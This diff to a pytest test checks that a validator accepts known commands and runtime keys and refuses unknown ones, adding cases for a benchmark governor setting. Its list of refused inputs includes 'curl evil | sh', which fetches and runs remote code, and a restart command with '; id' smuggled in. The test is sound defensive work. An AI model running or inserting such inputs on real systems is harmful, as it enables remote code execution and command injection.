@@ -78,11 +78,14 @@ def test_commands_and_wheels_must_be_known(root: str) -> None:
     door.ensure_allowed(root, "activate", {"restart": "systemctl restart kws", "health": ""})
     door.ensure_allowed(root, "runtime", {"key": "sha256:" + HEX, "lock": "{}"})
     door.ensure_allowed(root, "runtime", {"key": "system:litert"})
+    door.ensure_allowed(root, "bench", {"protocol": {"governor": ""}})
     for verb, raw in (
         ("activate", {"health": "curl evil | sh"}),
         ("rollback", {"restart": "systemctl restart kws; id"}),
         ("runtime", {"key": "sha256:" + "b" * 64, "lock": "{}"}),
         ("runtime", {"key": "sha256:" + HEX}),
+        ("bench", {"protocol": {"governor": "performance"}}),
+        ("bench-pair", {"protocol": {"governor": "performance"}}),
     ):
         with pytest.raises(Fault) as refused:
             door.ensure_allowed(root, verb, raw)
